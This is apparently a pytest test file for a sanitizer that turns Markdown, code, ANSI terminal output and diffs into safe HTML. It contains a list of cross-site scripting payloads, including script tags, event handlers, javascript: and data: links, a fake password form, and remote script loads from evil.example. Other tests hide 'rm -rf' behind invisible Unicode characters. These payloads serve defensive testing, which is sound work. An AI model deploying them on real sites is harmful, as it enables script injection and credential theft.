"""Text that people and agents wrote: safe HTML, and nothing in it can hide."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sessions_app.markup import (
    ATTRIBUTES,
    CLASSES,
    TAGS,
    ansi_to_html,
    code_to_html,
    diff_lines,
    markdown_to_html,
    reveal,
)


class Reader(HTMLParser):
    """Reads HTML as a browser would: its elements, and what a person sees of it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.seen = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.seen += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came through: {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration came through: {decl!r}")


def is_inert(html: str, tags: set[str] = TAGS) -> Reader:
    """Assert that HTML has no script, style, form, image or foreign thing to load in it."""
    reader = Reader(html)
    for tag, attributes in reader.elements:
        assert tag in tags, tag
        known = ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        assert set(attributes) <= known, (tag, attributes)
        if "href" in attributes:
            href = attributes["href"] or ""
            assert re.match(r"(https?:|mailto:|[^:]*$)", href), href
            assert attributes["rel"] == "noopener noreferrer nofollow"
        for name in (attributes.get("class") or "").split():
            assert CLASSES.match(name), name
    return reader


# -- Markdown --------------------------------------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=//evil.example></iframe>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div hx-get='/sign-out/' hx-trigger='load'>x</div>",
    "<div class='card approval' data-x=1 id=event-1 style='position:fixed'>Approve</div>",
    "<p onclick=alert(1)>x</p>",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[x](http://a.example "onmouseover=alert(1)")',
    '[x](http://a.example "\\"><script>alert(1)</script>")',
    "![x](http://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```hl card" onclick="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "# <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "1. <script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_comes_through_markdown(attack):
    reader = is_inert(markdown_to_html(attack))
    assert not [tag for tag, _ in reader.elements if tag in {"script", "img", "style", "form"}]
    for _, attributes in reader.elements:
        assert (
            not (attributes.get("href") or "")
            .lower()
            .lstrip()
            .startswith(("javascript", "data", "vbscript", "file"))
        )


PIECES = st.sampled_from(
    [*ATTACKS, "<", ">", '"', "'", "&", "`", "```\n", "\n", "[", "](", ")", "javascript:", "x"]
)


@given(st.lists(st.one_of(PIECES, st.text(max_size=10)), max_size=8).map("".join))
def test_nothing_that_acts_comes_through_however_it_is_put_together(text):
    is_inert(markdown_to_html(text))


def test_raw_html_stays_text_that_is_seen():
    assert Reader(markdown_to_html("<b>bold</b>")).seen.strip() == "<b>bold</b>"


def test_links_lead_out_without_telling_where_from():
    html = markdown_to_html("[x](https://a.example/?a=1&b=2) <mailto:a@b.example>")
    assert 'href="https://a.example/?a=1&amp;b=2"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'href="mailto:a@b.example"' in html


def test_images_are_not_loaded_and_their_words_are_not_lost():
    reader = Reader(markdown_to_html("See ![the plan](http://evil.example/pixel.png)."))
    assert [tag for tag, _ in reader.elements] == ["p"]
    assert "evil.example" not in str(reader.elements)


@pytest.mark.parametrize("language", ["card", "approval card", "button", "hl-x", "Name", "a" * 50])
def test_a_code_block_cannot_dress_up_as_something_else(language):
    html = markdown_to_html(f"```{language}\nApprove\n```")
    classes = {
        name
        for _, attributes in Reader(html).elements
        for name in (attributes.get("class") or "").split()
    }
    assert classes <= {"hl"}


def test_markdown_is_rendered():
    html = markdown_to_html(
        "# Title\n\n*a* **b** ~~c~~ `d`\n\n- one\n- two\n\n3. three\n\n> quote\n\n"
        "| x | y |\n|---|---|\n| 1 | 2 |\n\n---\n\n```python\nprint('hi')\n```\n"
    )
    for part in (
        "<h1>Title</h1>", "<em>a</em>", "<strong>b</strong>", "<s>c</s>", "<code>d</code>",
        "<li>one</li>", '<ol start="3">', "<blockquote>", "<td>1</td>", "<hr>", '<pre class="hl">',
        '<span class="nb">print</span>',
    ):  # fmt: skip
        assert part in html


@pytest.mark.parametrize("language", ["python", "sh", "no-such-language", "", "html"])
def test_highlighting_changes_no_character_of_the_code(language):
    code = "if a < b && c > 'd': print(\"<script>\")\n\n\n  x = 1\n"
    assert Reader(markdown_to_html(f"```{language}\n{code}```")).seen.strip("\n") == code.strip(
        "\n"
    )


# -- code that somebody decides on -----------------------------------------------------------------

HIDING = {
    "right-to-left override": "\u202e",
    "right-to-left isolate": "\u2067",
    "pop isolate": "\u2069",
    "right-to-left mark": "\u200f",
    "arabic letter mark": "\u061c",
    "zero width space": "\u200b",
    "zero width joiner": "\u200d",
    "word joiner": "\u2060",
    "byte order mark": "\ufeff",
    "soft hyphen": "\u00ad",
    "tag letter": "\U000e0041",
    "escape": "\x1b",
    "backspace": "\x08",
    "carriage return": "\r",
    "delete": "\x7f",
    "next line": "\x85",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "private use": "\ue000",
    "private use, closing": "\ue001",
    "half a pair": "\ud800",
    "nul": "\x00",
}


@pytest.mark.parametrize("language", ["sh", "python", "text", "nonsense"])
@pytest.mark.parametrize("name", HIDING)
def test_what_cannot_be_seen_is_spelled_out(name, language):
    character = HIDING[name]
    html = code_to_html(f"rm{character} -rf x # {character}\n'{character}'", language)
    shown = Reader(html).seen
    assert character not in html
    assert shown.count(f"U+{ord(character):04X}") == 3
    assert html.count('<span class="unseen">') == 3


# Fillers and blanks that are letters or spaces to Unicode, and nothing to the eye.
BLANK = {
    "no-break space": "\u00a0",
    "hangul filler": "\u3164",
    "halfwidth hangul filler": "\uffa0",
    "braille blank": "\u2800",
    "ideographic space": "\u3000",
    "em space": "\u2003",
    "variation selector": "\ufe0f",
    "combining grapheme joiner": "\u034f",
}


@pytest.mark.parametrize("name", BLANK)
def test_what_looks_like_a_blank_or_like_nothing_is_spelled_out_too(name):
    character = BLANK[name]
    assert f"U+{ord(character):04X}" in Reader(code_to_html(f"rm{character}x", "sh")).seen


@given(st.text(max_size=60), st.sampled_from(["sh", "python", "text"]))
def test_code_shows_every_character_and_acts_in_no_way(text, language):
    html = code_to_html(text, language)
    reader = Reader(html)
    assert {tag for tag, _ in reader.elements} <= {"span"}
    shown = reveal(text).replace("\ue000", "").replace("\ue001", "")
    assert reader.seen.rstrip("\n") == shown.rstrip("\n")


def test_ordinary_text_is_left_alone():
    text = "grüße='ä'\n\techo \"日本語 😀\" # naïve\n"
    assert reveal(text) == text


def test_a_faked_spelling_out_looks_different():
    real, faked = code_to_html("\u202e", "text"), code_to_html("U+202E", "text")
    assert "unseen" in real
    assert "unseen" not in faked
    brackets = code_to_html("\ue000U+202E\ue001", "text")
    assert re.findall('<span class="unseen">(.+?)</span>', brackets) == ["U+E000", "U+E001"]


# -- terminals -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("plain", "plain"),
        ("a < b & c", "a &lt; b &amp; c"),
        ("\x1b[31mred\x1b[0m after", '<span class="fg-red">red</span> after'),
        ("\x1b[1;32mok", '<span class="bold fg-green">ok</span>'),
        ("\x1b[91mbright\x1b[39m.", '<span class="fg-red">bright</span>.'),
        ("\x1b[31m\x1b[32mlast", '<span class="fg-green">last</span>'),
        ("\x1b[1mbold\x1b[m.", '<span class="bold">bold</span>.'),
        ("\x1b[38;5;1mx\x1b[38;2;1;2;3my", "xy"),
        ("\x1b[38;5mx", "x"),
        ("\x1b[999mx", "x"),
        ("\x1b[31m\x1b[0m", ""),
        ("\x1b]0;a title\x07x", "x"),
        ("\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("\x1b[2J\x1b[1;1Hx\x1b[K", "x"),
        ("a\x07b\x00c\x08d", "abcd"),
        ("one\r\ntwo\r\n", "one\ntwo\n"),
        (" 10%\r 50%\r100%\ndone", "100%\ndone"),
        (" 10%\r 50%\r", " 50%"),
        ("\t|\n", "\t|\n"),
    ],
)
def test_terminal_output_becomes_text_with_colours(text, html):
    assert ansi_to_html(text) == html


TERMINAL = st.lists(
    st.one_of(
        st.sampled_from(["\x1b[", "m", "31", ";", "\x1b]", "\x07", "\r", "\n", "<script>", "\x1b"]),
        st.text(max_size=5),
    ),
    max_size=20,
).map("".join)


@given(TERMINAL)
def test_no_terminal_output_acts_or_keeps_an_escape(text):
    html = ansi_to_html(text)
    reader = Reader(html)
    for tag, attributes in reader.elements:
        assert tag == "span"
        assert set(attributes) == {"class"}
        assert re.fullmatch(r"((bold|faint|italic|underline|fg-[a-z]+) ?)+", attributes["class"])
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", html)


# -- diffs -----------------------------------------------------------------------------------------


def test_the_lines_of_a_diff_have_their_kinds():
    diff = (
        "diff --git a/x b/x\nnew file mode 100644\nindex 1..2\n--- a/x\n+++ b/x\n"
        "@@ -1,2 +1,2 @@\n same\n-old\n+new\n"
    )
    assert [kind for kind, _ in diff_lines(diff)] == [
        "file", "file", "file", "file", "file", "hunk", "same", "del", "add",
    ]  # fmt: skip


def test_a_removed_line_that_begins_with_dashes_is_no_file():
    """`-- a comment` of SQL, removed, reads `--- a comment` in a diff."""
    diff = "--- a/x.sql\n+++ b/x.sql\n@@ -1,2 +1,2 @@\n--- a comment\n+++ i;\n same\n"
    kinds = ["file", "file", "hunk", "del", "add", "same"]
    assert [kind for kind, _ in diff_lines(diff)] == kinds
    assert [kind for kind, _ in diff_lines(diff * 2)] == kinds * 2


def test_the_text_of_a_diff_is_kept():
    diff = "@@ -1 +1,2 @@\n-a\x0cb\n+c\u2028d\n+\n\\ No newline at end of file\n"
    assert "\n".join(line for _, line in diff_lines(diff)) == diff.rstrip("\n")
    assert [kind for kind, _ in diff_lines(diff)] == ["hunk", "del", "add", "add", "same"]
    assert diff_lines("") == []
